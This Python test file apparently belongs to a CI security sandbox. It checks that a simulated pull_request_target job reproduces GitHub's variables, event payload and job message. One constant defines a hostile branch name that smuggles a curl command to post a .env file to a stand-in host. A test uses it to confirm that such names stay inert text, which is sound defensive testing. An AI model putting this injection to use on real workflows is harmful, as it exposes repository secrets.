"""The privileged check's job reads as a base workflow's pull_request_target job.

Where a base workflow with a privileged trigger runs the head, the ``privileged`` check's
variables, event file and job message say what GitHub says in that job: the base's ref and
commit, the pull request's branches, and GitHub's ``pull_request`` payload. The event file
is held against octokit/webhooks' examples (``tests/samples/webhooks``), key by key and
type by type, never against the builder.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from jobs import BASE, MERGE, job_for

from cujo_action.arm.actionsjob import (
    JobIdentity,
    event_file,
    job_env,
    job_message,
    new_identity,
)
from cujo_action.find.decoys import make_decoys
from cujo_action.schema import ZERO_SHA, PullTarget, Push, Upstream

SAMPLES = Path(__file__).parents[2] / "samples" / "webhooks"
WEBHOOK_ONLY = {"installation"}
NOW = 1_770_000_000.0
DECOYS = make_decoys()
HEAD = "c" * 40
HOME, TEMP = "/home/runner", "/home/runner/work/_temp"
# A branch whose name is a command: the job's variables and event carry it as text.
HOSTILE = "$({curl,-d,@.env,x.test})"


def target(branch: str = "fix-docs") -> PullTarget:
    return PullTarget(
        number=42, branch=branch, head_sha=HEAD, title="Fix the docs", body="why\n",
        author="mallory", author_id=77_777, workflow=".github/workflows/preview.yml",
        workflow_name="Preview", trigger="pull_request_target",
    )  # fmt: skip


def privileged_job(branch: str = "fix-docs") -> JobIdentity:
    upstream = Upstream(repository="octo/app", owner_id=4_242_424, branch="main",
                        default_branch="main")  # fmt: skip
    return new_identity(
        upstream,
        Push(before=BASE, after=MERGE, merged=True),
        Push(before=ZERO_SHA, after=BASE),
        target(branch),
    )


def kinds(value: dict[str, Any]) -> dict[str, str]:
    return {key: type(item).__name__ for key, item in value.items()}


@pytest.mark.parametrize("name", ["opened", "closed"])
def test_the_event_file_is_shaped_as_githubs_pull_request_payload(name: str) -> None:
    real = json.loads((SAMPLES / f"pull_request.{name}.json").read_text())
    job = privileged_job()
    made = json.loads(event_file(job, job.event("privileged"), NOW))
    assert set(made) == set(real) - WEBHOOK_ONLY
    assert kinds(made["sender"]).items() >= kinds(real["sender"]).items()
    assert kinds(made["repository"]).keys() >= kinds(real["repository"]).keys()
    pull, real_pull = made["pull_request"], real["pull_request"]
    # Every field GitHub sends of the pull request, of the same JSON type where GitHub's
    # example is not null (a body, a merge, a close, left null by an open pull request).
    assert set(pull) >= set(real_pull) - {"_links", "requested_teams"}, set(real_pull) - set(pull)
    for key, value in real_pull.items():
        if key in pull and value is not None and pull[key] is not None:
            assert type(pull[key]) is type(value), key
    for side in ("head", "base"):
        assert set(pull[side]) == set(real_pull[side]), side


def test_the_job_is_the_bases_and_names_the_pull_requests_branches() -> None:
    job = privileged_job()
    event = job.event("privileged")
    assert isinstance(event, PullTarget)
    env = job_env(job, event, DECOYS, home=HOME, temp=TEMP)
    made = json.loads(event_file(job, event, NOW))
    assert (env["GITHUB_EVENT_NAME"], env["GITHUB_REF"], env["GITHUB_REF_NAME"]) == (
        "pull_request_target",
        "refs/heads/main",
        "main",
    )
    # pull_request_target runs in the base's context: its commit, not the head's.
    assert env["GITHUB_SHA"] == env["GITHUB_WORKFLOW_SHA"] == BASE
    assert (env["GITHUB_BASE_REF"], env["GITHUB_HEAD_REF"]) == ("main", "fix-docs")
    assert env["GITHUB_WORKFLOW"] == "Preview"
    assert env["GITHUB_WORKFLOW_REF"] == "octo/app/.github/workflows/preview.yml@refs/heads/main"
    assert env["GITHUB_ACTOR"] == made["sender"]["login"] == "mallory"
    assert made["number"] == made["pull_request"]["number"] == 42
    head, base = made["pull_request"]["head"], made["pull_request"]["base"]
    assert (head["ref"], head["sha"], head["repo"]["fork"]) == ("fix-docs", HEAD, True)
    assert head["repo"]["full_name"] == "mallory/app"
    assert (base["ref"], base["sha"], base["repo"]["full_name"]) == ("main", BASE, "octo/app")
    assert made["pull_request"]["title"] == "Fix the docs"
    assert made["repository"]["full_name"] == env["GITHUB_REPOSITORY"] == "octo/app"


def test_a_hostile_branch_name_is_carried_as_text() -> None:
    job = privileged_job(HOSTILE)
    env = job_env(job, job.event("privileged"), DECOYS, home=HOME, temp=TEMP)
    made = json.loads(event_file(job, job.event("privileged"), NOW))
    assert env["GITHUB_HEAD_REF"] == made["pull_request"]["head"]["ref"] == HOSTILE


def test_the_worker_holds_the_pull_request_in_its_job_message() -> None:
    job = privileged_job()
    github = json.loads(job_message(job, job.event("privileged"), DECOYS))["contextData"]
    held = {entry["k"]: entry["v"] for entry in github["github"]["d"]}
    assert (held["event_name"], held["ref"], held["sha"]) == (
        "pull_request_target",
        "refs/heads/main",
        BASE,
    )
    assert (held["head_ref"], held["base_ref"], held["actor"]) == ("fix-docs", "main", "mallory")


def test_every_other_check_keeps_its_push_and_without_a_workflow_so_does_privileged() -> None:
    job = privileged_job()
    for check in ("install", "detonation", "tests", "probes", "smoke"):
        event = job.event(check)
        assert isinstance(event, Push), check
        assert event.after == MERGE, check
    base = job.event("base")
    assert isinstance(base, Push)
    assert base.after == BASE
    plain = job_for("octo/app")
    assert plain.privileged is None
    fallback = plain.event("privileged")
    assert isinstance(fallback, Push)
    assert fallback.after == MERGE
